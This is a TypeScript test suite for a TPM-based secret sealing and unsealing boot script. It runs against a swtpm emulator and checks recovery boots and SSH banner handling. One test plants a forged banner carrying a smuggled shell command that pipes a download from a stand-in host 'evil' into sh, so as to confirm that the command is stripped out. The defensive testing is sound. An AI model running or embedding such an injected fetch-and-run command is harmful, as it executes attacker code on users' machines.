import { execa } from 'execa';
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sealedEntries } from '../../builder/secrets.js';
import type { CpioEntry } from '../../builder/cpio.js';
import { parseConfig } from '../../lib/config.js';
import { packagePath } from '../../lib/package.js';
import { SealedSecretsUnavailableError, connect } from '../../deploy/ssh.js';
import { generateIdentity, identityToRecipient } from 'age-encryption';
import { parseSealOutput, type Enrollment } from '../../secrets/sealed.js';
import { startSshd } from '../helpers/sshd.js';
import { freePort, tempDir } from '../helpers/ramboot.js';

// image/agent/ramboot-sealed, the machine's side of secrets.at_rest: tpm, run on this host
// against a real TPM 2.0 emulator (swtpm) with the real tpm2-tools, age and cpio. The
// machine's root is a directory (RAMBOOT_SEALED_ROOT); the archive it unseals is the one
// the build makes (builder/secrets.ts).

const SCRIPT = packagePath('image/agent/ramboot-sealed');
const PROBE = 'sealed-probe-4f1c2a';

interface Tpm {
  env: Record<string, string>;
  stop(): Promise<void>;
}

/** A TPM 2.0 emulator on `state` (a new one by default); stop() kills it as a power cut would, without an orderly TPM shutdown. */
async function startSwtpm(state = tempDir('swtpm')): Promise<Tpm> {
  // The swtpm TCTI finds the control channel on the next port.
  const port = await freePort();
  const ctrl = port + 1;
  const proc: ChildProcess = spawn(
    'swtpm',
    ['socket', '--tpm2', '--tpmstate', `dir=${state}`, '--server', `type=tcp,port=${port},bindaddr=127.0.0.1`, '--ctrl', `type=tcp,port=${ctrl},bindaddr=127.0.0.1`, '--flags', 'not-need-init,startup-clear'],
    { stdio: ['ignore', 'ignore', 'pipe'] },
  );
  let log = '';
  proc.stderr!.on('data', (d: Buffer) => (log += String(d)));
  const env = { TPM2TOOLS_TCTI: `swtpm:host=127.0.0.1,port=${port}` };
  let last = '';
  for (let i = 0; i < 50; i++) {
    const r = await execa('tpm2_getrandom', ['--hex', '4'], { env, reject: false });
    if (r.exitCode === 0) {
      return {
        env,
        stop: () => {
          proc.kill('SIGKILL');
          return new Promise<void>((done) => (proc.exitCode !== null || proc.signalCode !== null ? done() : proc.once('exit', () => done())));
        },
      };
    }
    last = r.stderr;
    await new Promise((r) => setTimeout(r, 100));
  }
  proc.kill();
  throw new Error(`swtpm did not answer: ${log}${last}`);
}

function run(mode: 'seal' | 'unseal', env: Record<string, string>) {
  return execa('sh', [SCRIPT, mode], { env: { ...process.env, ...env }, reject: false });
}

/** A machine's root with the sealed files a build puts in the image, and two services in the default runlevel. */
async function machineRoot(enrollment: Enrollment, recipients: string[], sshdConfig = 'Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin prohibit-password\n'): Promise<string> {
  const root = tempDir('sealed-root');
  mkdirSync(join(root, 'etc/ssh'), { recursive: true, mode: 0o755 });
  writeFileSync(join(root, 'etc/ssh/sshd_config'), sshdConfig);
  const config = parseConfig(`host: { name: nas }\nsecrets:\n  at_rest: tpm\n  recipients: [${recipients.join(', ')}]\n`, 'ramboot.yaml');
  const secret = (path: string, data: string): CpioEntry => ({ path, type: 'file', mode: 0o600, uid: 0, gid: 0, mtime: 0, size: data.length, data: Buffer.from(data) });
  const entries = await sealedEntries([secret('etc/ramboot/probe', `${PROBE}\n`), secret('root/.ssh/authorized_keys', 'ssh-ed25519 AAAA public\n')], enrollment, config, 0);
  for (const e of entries) {
    mkdirSync(join(root, e.path, '..'), { recursive: true });
    writeFileSync(join(root, e.path), e.data as Buffer, { mode: e.mode });
  }
  writeFileSync(join(root, 'etc/ramboot/sealed/conf'), "HOST_KEY='etc/ssh/ssh_host_ed25519_key'\n");
  mkdirSync(join(root, 'etc/runlevels/default'), { recursive: true });
  for (const s of ['monitor', 'sshd', 'networking']) symlinkSync(`/etc/init.d/${s}`, join(root, 'etc/runlevels/default', s));
  return root;
}

describe('image/agent/ramboot-sealed against swtpm (real tpm2-tools, age, cpio)', () => {
  let tpm: Tpm;
  let enrollment: Enrollment;
  const repoIdentity = generateIdentity();
  let repoRecipient: string;

  beforeAll(async () => {
    tpm = await startSwtpm();
    repoRecipient = await identityToRecipient(await repoIdentity);
  });
  afterAll(async () => tpm?.stop());

  it('seal prints an age recipient and the TPM-wrapped object, never the identity, and leaves no file behind', async () => {
    const tmp = tempDir('seal-tmp');
    const r = await run('seal', { ...tpm.env, TMPDIR: tmp });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(/AGE-SECRET-KEY/);
    enrollment = parseSealOutput(r.stdout, 'nas');
    expect(enrollment.recipient).toMatch(/^age1[0-9a-z]{58}$/);
    expect(enrollment.pub.length).toBeGreaterThan(40);
    expect(enrollment.priv.length).toBeGreaterThan(40);
    expect(readdirSync(tmp)).toEqual([]);
  });

  it('unseal unpacks the secrets the build sealed, with their modes, over the root; the default runlevel is left alone; it works again on the next boot', async () => {
    const root = await machineRoot(enrollment, [repoRecipient]);
    for (let boot = 0; boot < 2; boot++) {
      const r = await run('unseal', { ...tpm.env, RAMBOOT_SEALED_ROOT: root });
      expect(r.exitCode, r.stderr).toBe(0);
      expect(r.stderr).toMatch(/secrets unsealed/);
      expect(readFileSync(join(root, 'etc/ramboot/probe'), 'utf8')).toBe(`${PROBE}\n`);
      expect(statSync(join(root, 'etc/ramboot/probe')).mode & 0o777).toBe(0o600);
      expect(existsSync(join(root, 'etc/ramboot/sealed/unavailable'))).toBe(false);
      expect(readdirSync(join(root, 'etc/runlevels/default')).sort()).toEqual(['monitor', 'networking', 'sshd']);
      // Only files are put in place: the directories above them keep their modes.
      expect(statSync(join(root, 'etc')).mode & 0o777).toBe(0o755);
      expect(statSync(join(root, 'etc/ramboot')).mode & 0o777).toBe(0o755);
    }
  });

  it('with another TPM (a fresh swtpm) nothing is decrypted: a recovery boot with a recovery host key, and a controller that pins the real key is told why by the banner', async () => {
    const other = await startSwtpm();
    try {
      const root = await machineRoot(enrollment, [repoRecipient]);
      const r = await run('unseal', { ...other.env, RAMBOOT_SEALED_ROOT: root });
      expect(r.exitCode, r.stderr).toBe(0);
      expect(existsSync(join(root, 'etc/ramboot/probe'))).toBe(false);
      // tpm2-tools' own message, not the library's trace.
      expect(readFileSync(join(root, 'etc/ramboot/sealed/unavailable'), 'utf8')).toMatch(/^\S.*\n$/);
      expect(readFileSync(join(root, 'etc/ramboot/sealed/unavailable'), 'utf8')).not.toMatch(/esys:src/);
      expect(readdirSync(join(root, 'etc/runlevels/default')).sort()).toEqual(['networking', 'sshd']);
      expect(readFileSync(join(root, 'etc/ssh/sshd_config.d/00-ramboot-recovery.conf'), 'utf8')).toBe('Banner /etc/ramboot/sealed/banner\n');
      expect(readFileSync(join(root, 'etc/ssh/sshd_config'), 'utf8')).not.toMatch(/Banner/);
      const recovery = readFileSync(join(root, 'etc/ssh/ssh_host_ed25519_key.pub'), 'utf8').trim();
      expect(readFileSync(join(root, 'etc/ramboot/sealed/banner'), 'utf8')).toContain(`ramboot-sealed: recovery-host-key: ${recovery}`);
      // The files the boot unsealed from are as they were: the medium's copy is never touched.
      expect(lstatSync(join(root, 'etc/ramboot/sealed/secrets.age')).size).toBeGreaterThan(0);

      const sshd = await startSshd({ hostKeyFile: join(root, 'etc/ssh/ssh_host_ed25519_key'), banner: join(root, 'etc/ramboot/sealed/banner') });
      try {
        const pinned = sshd.otherHostKey;
        const err = await connect(sshd.target({ hostKey: pinned })).then(
          () => undefined,
          (e: unknown) => e,
        );
        expect(err).toBeInstanceOf(SealedSecretsUnavailableError);
        const sealed = err as SealedSecretsUnavailableError;
        expect(sealed.kind).toBe('person');
        expect(sealed.recoveryHostKey).toBe(recovery.split(' ').slice(0, 2).join(' '));
        expect(sealed.message).toMatch(/^sealed secrets unavailable on nas: its TPM could not unseal/);
        expect(sealed.message).toContain(`ramboot secrets enroll --host-key '${sealed.recoveryHostKey}'`);
      } finally {
        await sshd.stop();
      }

      // A banner is the word of a server nobody vouched for: a key line that is not the key
      // presented, or that is not a plain key, never reaches the command the message gives.
      const forged = join(tempDir('forged'), 'banner');
      writeFileSync(forged, "ramboot-sealed: unavailable: forged\x1b[2J\nramboot-sealed: recovery-host-key: ssh-ed25519 x';curl${IFS}evil|sh;'\n");
      const liar = await startSshd({ hostKeyFile: join(root, 'etc/ssh/ssh_host_ed25519_key'), banner: forged });
      try {
        const err = (await connect(liar.target({ hostKey: liar.otherHostKey })).catch((e: unknown) => e)) as SealedSecretsUnavailableError;
        expect(err).toBeInstanceOf(SealedSecretsUnavailableError);
        expect(err.recoveryHostKey).toBeUndefined();
        expect(err.message).toContain('ramboot secrets enroll --host-key LINE');
        expect(err.message).not.toMatch(/curl|\x1b/);
      } finally {
        await liar.stop();
      }

      // Whoever holds the repository's identity still opens the medium's secrets offline.
      const idFile = join(tempDir('repo-identity'), 'identity.txt');
      writeFileSync(idFile, `${await repoIdentity}\n`, { mode: 0o600 });
      const plain = await execa('age', ['-d', '-i', idFile, join(root, 'etc/ramboot/sealed/secrets.age')], { encoding: 'buffer' });
      expect(Buffer.from(plain.stdout as Uint8Array).toString('latin1')).toContain(PROBE);
    } finally {
      await other.stop();
    }
  });

  it('unseals after power cuts: a TPM never shut down in order does not lock the key out (dictionary-attack protection is off for keys without a password)', async () => {
    const state = tempDir('swtpm-power');
    let chip = await startSwtpm(state);
    const r = await run('seal', chip.env);
    expect(r.exitCode, r.stderr).toBe(0);
    const mine = parseSealOutput(r.stdout, 'nas');
    for (let cut = 0; cut < 6; cut++) {
      const root = await machineRoot(mine, [repoRecipient]);
      const u = await run('unseal', { ...chip.env, RAMBOOT_SEALED_ROOT: root });
      expect(readFileSync(join(root, 'etc/ramboot/sealed/unavailable'), { flag: 'a+' }).toString(), `boot ${cut}: ${u.stderr}`).toBe('');
      expect(readFileSync(join(root, 'etc/ramboot/probe'), 'utf8')).toBe(`${PROBE}\n`);
      await chip.stop();
      chip = await startSwtpm(state);
    }
    await chip.stop();
  });

  it('a sealed archive the unsealed key does not open is a recovery boot too, not an empty success; an sshd_config without Include gets the banner at its top', async () => {
    const root = await machineRoot(enrollment, [repoRecipient], 'PermitRootLogin prohibit-password\n');
    const wrong = await machineRoot({ ...enrollment, recipient: repoRecipient }, [repoRecipient]);
    writeFileSync(join(root, 'etc/ramboot/sealed/secrets.age'), readFileSync(join(wrong, 'etc/ramboot/sealed/secrets.age')));
    const r = await run('unseal', { ...tpm.env, RAMBOOT_SEALED_ROOT: root });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(existsSync(join(root, 'etc/ramboot/probe'))).toBe(false);
    expect(readFileSync(join(root, 'etc/ramboot/sealed/unavailable'), 'utf8')).toMatch(/did not decrypt/);
    expect(readFileSync(join(root, 'etc/ssh/sshd_config'), 'utf8')).toBe('Banner /etc/ramboot/sealed/banner\nPermitRootLogin prohibit-password\n');
  });
});
